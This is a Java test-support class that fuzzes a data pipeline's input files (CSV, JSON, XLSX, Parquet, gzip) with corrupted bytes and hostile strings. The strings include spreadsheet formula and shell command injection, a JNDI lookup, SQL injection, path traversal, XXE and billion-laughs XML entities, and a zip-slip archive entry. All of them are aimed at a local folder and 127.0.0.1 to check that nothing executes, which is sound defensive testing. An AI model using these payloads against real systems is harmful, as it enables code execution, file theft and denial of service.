package aftercare.pipeline;

import aftercare.TestSpark;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * Makes hostile files of good ones, in every format that is read: bytes changed, lost, doubled or put in, texts that
 * spreadsheets, shells, loggers or XML parsers would act on, lengths that lie. The same seed makes the same files.
 */
final class HostileMutator {
    private static final String HEADER = "repair_id,outlet_id,model_id,service_type,opened_at,completed_at,labour_cost";
    private static final int ROWS = 12;
    private static final List<String> FORMATS =
            List.of("csv", "tsv", "txt", "json", "jsonl", "parquet", "xlsx", "csv.gz", "jsonl.gz", "json.gz");

    private final SplittableRandom random;
    private final Map<String, byte[]> good = new TreeMap<>();
    private final List<String> texts;

    /**
     * A mutator.
     *
     * @param folder where it may work, and where a file {@code executed} or {@code slipped} must never appear
     * @param port where a server listens that nothing may ask
     */
    HostileMutator(long seed, Path folder, int port) throws IOException {
        random = new SplittableRandom(seed);
        String touch = "touch " + folder.resolve("executed");
        String host = "127.0.0.1:" + port;
        texts = List.of(
                "=cmd|' /C " + touch + "'!A0",
                "$(" + touch + ")",
                "`" + touch + "`",
                "\"; " + touch + "; \"",
                "${jndi:ldap://" + host + "/a}",
                "'; drop table repairs; --",
                "../../../../etc/passwd",
                "file:///etc/passwd",
                "http://" + host + "/a",
                "\u202Egnp.exe",
                "\uFEFF",
                "\u0000",
                "\u001B[2J\u001B]0;owned\u0007",
                "\r",
                "\r\n\r\n",
                "\"",
                "\"\"\"",
                "1e999999999",
                "-0",
                "NaN",
                "9".repeat(400),
                "2026-02-30",
                "0000-00-00",
                "9999999999999-12-31",
                "1970-01-01T00:00:00+99:99",
                "\uD83D\uDE00".repeat(50),
                "x".repeat(70_000),
                "{{7*7}}",
                "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://" + host + "/x\">]>",
                "&e;",
                "[".repeat(2_000),
                "{\"a\":".repeat(600),
                ",".repeat(3_000),
                "\n".repeat(3_000));
        String csv = csv();
        good.put("csv", csv.getBytes(StandardCharsets.UTF_8));
        good.put("txt", csv.replace(',', ';').getBytes(StandardCharsets.UTF_8));
        good.put("tsv", csv.replace(',', '\t').getBytes(StandardCharsets.UTF_8));
        good.put("json", ("[" + String.join(",\n", json()) + "]").getBytes(StandardCharsets.UTF_8));
        good.put("jsonl", (String.join("\n", json()) + "\n").getBytes(StandardCharsets.UTF_8));
        good.put("xlsx", xlsx());
        good.put("parquet", parquet(folder.resolve("good-parquet")));
    }

    /** A file: an ending and its bytes. */
    record Hostile(String ending, byte[] bytes) {}

    /** The next one. */
    Hostile next() throws IOException {
        String ending = FORMATS.get(random.nextInt(FORMATS.size()));
        String inner = ending.replace(".gz", "");
        byte[] bytes = good.get(inner);
        int times = 1 + random.nextInt(3);
        for (int i = 0; i < times; i++) {
            bytes = inner.equals("xlsx") && random.nextInt(3) > 0 ? inWorkbook(bytes) : changed(bytes);
        }
        if (ending.endsWith(".gz")) {
            bytes = zipped(bytes);
            if (random.nextInt(3) == 0) {
                bytes = changed(bytes);
            }
        }
        if (random.nextInt(20) == 0) {
            ending = FORMATS.get(random.nextInt(FORMATS.size()));
        }
        return new Hostile(ending, bytes);
    }

    private byte[] changed(byte[] bytes) {
        if (bytes.length == 0) {
            return bytes;
        }
        int from = random.nextInt(bytes.length);
        int length = Math.min(bytes.length - from, 1 + random.nextInt(64));
        byte[] copy = bytes.clone();
        return switch (random.nextInt(10)) {
            case 0 -> Arrays.copyOf(bytes, from);
            case 1 -> spliced(bytes, from, length, new byte[0]);
            case 2 -> spliced(bytes, from, 0, Arrays.copyOfRange(bytes, from, from + length));
            case 3 -> spliced(bytes, from, 0, noise(length));
            case 4 -> spliced(bytes, from, length, noise(length));
            case 5 -> {
                for (int i = 0; i < 8; i++) {
                    copy[random.nextInt(copy.length)] ^= (byte) (1 << random.nextInt(8));
                }
                yield copy;
            }
            case 6 -> {
                // Where formats keep lengths and counts: a number that lies.
                int end = Math.max(0, bytes.length - 1 - random.nextInt(Math.min(bytes.length, 300)));
                copy[end] = (byte) 0xff;
                copy[Math.max(0, end - 1)] = (byte) (random.nextBoolean() ? 0xff : 0x7f);
                yield copy;
            }
            default ->
                spliced(
                        bytes,
                        from,
                        random.nextBoolean() ? 0 : length,
                        texts.get(random.nextInt(texts.size())).getBytes(StandardCharsets.UTF_8));
        };
    }

    private byte[] noise(int length) {
        byte[] noise = new byte[length];
        random.nextBytes(noise);
        return noise;
    }

    private static byte[] spliced(byte[] bytes, int from, int lost, byte[] put) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, from);
        out.writeBytes(put);
        out.write(bytes, from + lost, bytes.length - from - lost);
        return out.toByteArray();
    }

    private static byte[] zipped(byte[] bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes);
        }
        return out.toByteArray();
    }

    /** Changes a part of a workbook inside its archive, or puts in one that would land elsewhere if unpacked. */
    private byte[] inWorkbook(byte[] workbook) throws IOException {
        Map<String, byte[]> parts = new TreeMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook))) {
            for (ZipEntry part = in.getNextEntry(); part != null; part = in.getNextEntry()) {
                parts.put(part.getName(), in.readAllBytes());
            }
        } catch (IOException | IllegalArgumentException damagedBefore) {
            return changed(workbook);
        }
        if (parts.isEmpty()) {
            return changed(workbook);
        }
        String name = List.copyOf(parts.keySet()).get(random.nextInt(parts.size()));
        switch (random.nextInt(5)) {
            case 0 -> parts.remove(name);
            case 1 ->
                parts.put(
                        "../".repeat(12) + "tmp/aftercare-slipped", texts.get(0).getBytes(StandardCharsets.UTF_8));
            case 2 -> parts.put(name, entities(new String(parts.get(name), StandardCharsets.UTF_8)));
            default -> parts.put(name, changed(parts.get(name)));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                ZipEntry entry = new ZipEntry(part.getKey());
                if (random.nextInt(8) == 0) {
                    entry.setMethod(ZipEntry.STORED);
                    entry.setSize(part.getValue().length);
                    CRC32 crc = new CRC32();
                    crc.update(part.getValue());
                    entry.setCrc(crc.getValue());
                }
                zip.putNextEntry(entry);
                zip.write(part.getValue());
            }
        }
        return out.toByteArray();
    }

    /** Entities that ask for a file or a server, or swell. */
    private byte[] entities(String xml) {
        String outside = texts.get(28)
                .replace(
                        "[",
                        "[<!ENTITY a \"aaaaaaaaaaaaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                                + "<!ENTITY f \"&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;\">");
        int at = xml.indexOf("?>");
        String head = at < 0 ? "" : xml.substring(0, at + 2);
        String rest = at < 0 ? xml : xml.substring(at + 2);
        String inText = random.nextBoolean() ? "&e;" : "&g;";
        int text = rest.indexOf("</");
        return (head + outside + (text < 0 ? rest : rest.substring(0, text) + inText + rest.substring(text)))
                .getBytes(StandardCharsets.UTF_8);
    }

    private static String csv() {
        StringBuilder csv = new StringBuilder(HEADER).append('\n');
        for (int i = 0; i < ROWS; i++) {
            csv.append("R").append(i).append(",O1,M1,repair,2026-10-01 08:05,2026-10-02,12.50\n");
        }
        return csv.toString();
    }

    private static List<String> json() {
        return Stream.iterate(0, i -> i + 1)
                .limit(ROWS)
                .map(i -> "{\"repair_id\": \"J" + i + "\", \"outlet_id\": \"O1\", \"model_id\": 7, \"service_type\":"
                        + " \"repair\", \"opened_at\": \"2026-10-01T08:05:00Z\", \"labour_cost\": 12.5}")
                .toList();
    }

    private static byte[] xlsx() throws IOException {
        return Delivered.workbook("orders", HEADER, sheet -> {
            for (int line = 1; line <= ROWS; line++) {
                sheet.value(line, 0, "X" + line);
                sheet.value(line, 1, "O1");
                sheet.value(line, 2, "M1");
                sheet.value(line, 3, "repair");
                sheet.value(line, 4, LocalDateTime.of(2026, 10, 1, 8, 5));
                sheet.style(line, 4).format("yyyy-mm-dd hh:mm").set();
                sheet.value(line, 6, 12.5);
            }
        });
    }

    private static byte[] parquet(Path folder) throws IOException {
        TestSpark.session()
                .range(ROWS)
                .selectExpr(
                        "concat('P', id) AS repair_id",
                        "'O1' AS outlet_id",
                        "'M1' AS model_id",
                        "'repair' AS service_type",
                        "timestamp'2026-10-01 08:05:00' AS opened_at",
                        "cast(12.5 AS decimal(12,2)) AS labour_cost")
                .coalesce(1)
                .write()
                .parquet(folder.toString());
        try (Stream<Path> files = Files.list(folder)) {
            return Files.readAllBytes(files.filter(file -> file.toString().endsWith(".parquet"))
                    .findFirst()
                    .orElseThrow());
        }
    }
}
